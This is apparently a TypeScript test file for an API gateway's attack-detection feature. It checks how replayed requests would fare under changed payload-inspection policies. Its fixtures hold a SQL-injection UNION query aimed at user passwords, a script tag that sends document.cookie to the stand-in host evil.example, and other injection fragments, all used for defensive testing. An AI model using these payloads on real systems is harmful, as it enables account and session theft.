import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { CallEvent } from '../../src/core/event.ts';
import type { AddedException } from '../../src/core/payload.ts';
import { LearnedTable, NOTHING_LEARNED } from '../../src/detect/parameters/learned-table.ts';
import { exceptionId } from '../../src/detect/payload/exceptions.ts';
import { toCall } from '../../src/http/call.ts';
import { parseProfile } from '../../src/pipeline/call-profile.ts';
import { Comparing } from '../../src/pipeline/comparison.ts';
import { sampleEvent } from '../../src/pipeline/event-samples.test.ts';
import { RecordedCalls } from '../../src/pipeline/recorded-call.ts';
import { ThreadValueJudge } from '../../src/pipeline/value-judge.ts';
import { Judge } from '../harness/judge.ts';

const NOW_MS = 1_790_000_000_000;
const DAY_MS = 86_400_000;
const ADDRESS = '203.0.113.9';
const SQL = "1' UNION SELECT username, password FROM users--";
const SCRIPT = '<script>fetch("//evil.example/?"+document.cookie)</script>';
/** Of every severity, as the model of the day sees them. */
const TEXTS = [
  'nothing of note',
  SQL,
  SCRIPT,
  "x' or 1=1",
  'order by 1',
  "' or 'a",
  '<svg>',
  '<b onclick=x>',
  'select * from t',
  '1; drop',
  'eval(x)',
  `${SQL} ${SCRIPT}`,
];
const values = new ThreadValueJudge();
/** Nothing was learned, and values are read to their end as where something was. */
const parameters = { table: new LearnedTable(() => 0, NOTHING_LEARNED), sampler: undefined };

/** YAML of `inspect.payload`, and what was added to the running gateway. */
interface Policy {
  readonly payload: string;
  readonly mode?: 'observe';
  readonly added?: readonly AddedException[];
}

function added(path: string, attack: string): AddedException {
  const scope = { path, class: attack, consumer: undefined };
  const more = { reason: '', addedBy: '', addedMs: NOW_MS };
  return {
    id: exceptionId('r', scope),
    routeId: 'r',
    routePlace: '* /*',
    ...scope,
    expiresMs: NOW_MS + DAY_MS,
    ...more,
  };
}

const judges = new Map<string, Judge>();
/** A profile is told once and then named. */
const profiles = new Map<number, string>();

function judgeOf(policy: Policy): Judge {
  const { payload, mode, added: payloadExceptions = [] } = policy;
  const key = JSON.stringify(policy);
  const known = judges.get(key);
  if (known !== undefined) return known;
  const judge = new Judge({
    configuration: `version: 1
mode: ${mode ?? 'enforce'}
upstreams: { a: { url: "http://127.0.0.1:9" } }
routes: [{ id: r, match: { path: "/*" }, upstream: a, authenticate: none, inspect: { payload: ${payload} } }]
`,
    nowMs: NOW_MS,
    payloadExceptions,
    parts: { values, parameters },
  });
  judges.set(key, judge);
  return judge;
}

const JSON_FIELDS = ['content-type', 'application/json'];
const bodyOf = (content: unknown): Buffer =>
  Buffer.from(typeof content === 'string' ? content : JSON.stringify(content));

/** What becomes of a call, and what is recorded of it. */
async function recorded(judge: Judge, content: unknown, at: number): Promise<CallEvent> {
  const body = bodyOf(content);
  const nowMs = NOW_MS + at;
  const asked = { method: 'POST', target: '/a', fields: JSON_FIELDS, body, remoteAddress: ADDRESS, nowMs };
  const decision = await judge.judge(asked);
  const rawHeaders = ['Host', 'api.example.com', 'content-length', String(body.length), ...JSON_FIELDS];
  const head = {
    method: 'POST',
    target: '/a',
    httpVersion: '1.1',
    rawHeaders,
    encrypted: true,
    remoteAddress: ADDRESS,
  };
  const call = toCall({ ...head, peer: undefined }, judge.snapshot.callPolicy, 'id');
  const facts = judge.snapshot.profiles.factsOf(call, judge.snapshot.routeById('r'), undefined, '/a', NOW_MS);
  if (facts.profileText !== '') profiles.set(facts.profileId, facts.profileText);
  return sampleEvent({
    requestId: `call-${at}`,
    timeMs: nowMs,
    method: 'POST',
    path: '/a',
    routeId: 'r',
    consumer: '',
    credentialId: '',
    authenticator: '',
    address: ADDRESS,
    outcome: decision.effect === 'permit' ? 'permitted' : decision.enforced ? 'denied' : 'observed',
    reason: decision.effect === 'deny' ? decision.reason : '',
    signals: decision.signals.map(({ name }) => name),
    trace: decision.trace,
    facts,
  });
}

async function changeOf(before: Policy, after: Policy, content: unknown): Promise<string> {
  const compared = new Comparing(judgeOf(after).afresh(), (id) => profiles.get(id));
  compared.add(await recorded(judgeOf(before), content, 0), true);
  const { counts, unknownBecause } = compared.report();
  const change = Object.entries(counts).find(([, count]) => count === 1)?.[0] ?? '';
  return change === 'unknown' ? `unknown: ${unknownBecause[0]?.why}` : change;
}

const plain = (more: string): string => `{ learn: false${more === '' ? '' : `, ${more}`} }`;
const excepting = (path: string, attack: string, more = 'profile: default'): string =>
  `{ ${more}, exceptions: [{ path: "${path}", class: ${attack}, expires: 2999-01-01 }] }`;
const DEFAULT: Policy = { payload: 'default' };

describe('a replay tells what would have changed', () => {
  const attack = { note: SQL };
  const cases: readonly (readonly [string, Policy, Policy, unknown, string])[] = [
    [
      'an exception added to the configuration',
      DEFAULT,
      { payload: excepting('body.note', 'sqli') },
      attack,
      'newlyAllowed',
    ],
    [
      'an exception added by command',
      DEFAULT,
      { ...DEFAULT, added: [added('body.note', 'sqli')] },
      attack,
      'newlyAllowed',
    ],
    ['an exception for everything beneath', DEFAULT, { payload: excepting('body.*', 'sqli') }, attack, 'newlyAllowed'],
    ['an exception elsewhere', DEFAULT, { payload: excepting('body.other', 'sqli') }, attack, 'unchanged'],
    ['an exception of another class', DEFAULT, { payload: excepting('body.note', 'xss') }, attack, 'unchanged'],
    [
      'an exception that leaves another value',
      DEFAULT,
      { payload: excepting('body.note', 'sqli') },
      { note: SQL, other: SCRIPT },
      'unchanged',
    ],
    ['an exception taken away', { payload: excepting('body.note', 'sqli') }, DEFAULT, attack, 'newlyDenied'],
    [
      'an exception moved to a command',
      { payload: excepting('body.note', 'sqli') },
      { ...DEFAULT, added: [added('body.note', 'sqli')] },
      attack,
      'unchanged',
    ],
    [
      'an attack behind an excepted class',
      DEFAULT,
      { payload: excepting('body.note', 'sqli') },
      { note: `${SQL} ${SCRIPT}` },
      'unchanged',
    ],
    [
      'a name as an attack, excepted where it stands',
      DEFAULT,
      { payload: excepting('body.a.*', 'sqli') },
      { a: { [SQL]: 1 } },
      'newlyAllowed',
    ],
    ['no attacks looked for any more', DEFAULT, { payload: 'off' }, attack, 'newlyAllowed'],
    [
      'attacks looked for from now on',
      { payload: 'off' },
      DEFAULT,
      attack,
      'unknown: what attacks would have been found',
    ],
    [
      'learning turned off',
      DEFAULT,
      { payload: plain('') },
      { note: 'nothing' },
      'unknown: what attacks are, by what parameters usually hold',
    ],
    [
      'a value that was not read to its end',
      { payload: plain('') },
      { payload: excepting('body.note', 'sqli', 'learn: false') },
      attack,
      'unknown: what else was in a value that is let through now',
    ],
    [
      'the same by command while observed',
      { ...DEFAULT, mode: 'observe' },
      { ...DEFAULT, mode: 'observe', added: [added('body.note', 'sqli')] },
      attack,
      'noLongerObserved',
    ],
    ['enforced from now on', { ...DEFAULT, mode: 'observe' }, DEFAULT, attack, 'newlyDenied'],
    [
      'bodies that can be read in two ways let through',
      DEFAULT,
      { payload: '{ onMalformed: pass }' },
      '{"a":1,"a":2}',
      'newlyAllowed',
    ],
    [
      'bodies that can be read in two ways refused',
      { payload: '{ onMalformed: pass }' },
      DEFAULT,
      '{"a":1,"a":2}',
      'newlyDenied',
    ],
    [
      'what was not read refused',
      DEFAULT,
      { payload: '{ onLimit: refuse }' },
      Array.from({ length: 3_000 }, () => 'x'),
      'newlyDenied',
    ],
    [
      'what was not read passed',
      { payload: '{ onLimit: refuse }' },
      DEFAULT,
      Array.from({ length: 3_000 }, () => 'x'),
      'unknown: what stands beyond the bounds of what was read',
    ],
  ];
  for (const [what, before, after, content, expected] of cases)
    test(`${what}: ${expected}`, async () => assert.equal(await changeOf(before, after, content), expected));
});

test('whatever a replay claims to know of attacks is what happens, and it knows nearly all', async () => {
  const policies: readonly Policy[] = ['relaxed', 'default', 'strict'].flatMap((profile) => [
    { payload: profile },
    { payload: excepting('body.a', 'sqli', `profile: ${profile}`) },
    { payload: excepting('body.b', 'xss', `profile: ${profile}`), added: [added('body.*', 'code')] },
    { payload: `{ profile: ${profile}, suspiciousMax: 3 }` },
  ]);
  const contents: unknown[] = [
    ...TEXTS.map((a) => ({ a })),
    ...TEXTS.flatMap((a, i) => [2, 5, 7].map((step) => ({ a, b: TEXTS[(i + step) % TEXTS.length] }))),
    ...TEXTS.map((text) => ({ a: { [text]: 1 } })),
    { a: TEXTS, b: TEXTS },
    Object.fromEntries(TEXTS.map((text, i) => [`k${i}`, text])),
  ];
  const runs = await Promise.all(
    policies.map(async (policy) => {
      const judge = judgeOf(policy);
      const events: CallEvent[] = [];
      for (const [i, content] of contents.entries()) events.push(await recorded(judge, content, i * 15_000));
      return { policy, judge, events };
    }),
  );
  const counted = { known: 0, unknown: 0, changed: 0 };
  for (const before of runs)
    for (const after of runs) {
      const calls = new RecordedCalls(after.judge.afresh());
      for (const [i, event] of before.events.entries()) {
        const judged = calls.judge(event, parseProfile(profiles.get(event.facts?.profileId ?? 0) ?? ''));
        const reality = after.events[i];
        if (judged.kind === 'unknown') counted.unknown++;
        else {
          counted.known++;
          if (event.outcome !== reality?.outcome) counted.changed++;
          const what = `${before.policy.payload}, then ${after.policy.payload}: ${JSON.stringify(contents[i])} ${event.signals.join(' ')}`;
          assert.equal(judged.outcome, reality?.outcome, what);
          if (before === after) assert.equal(judged.reason, reality?.reason, what);
        }
      }
    }
  assert.ok(counted.changed > 500, JSON.stringify(counted));
  assert.ok(counted.unknown < counted.known / 10, JSON.stringify(counted));
});
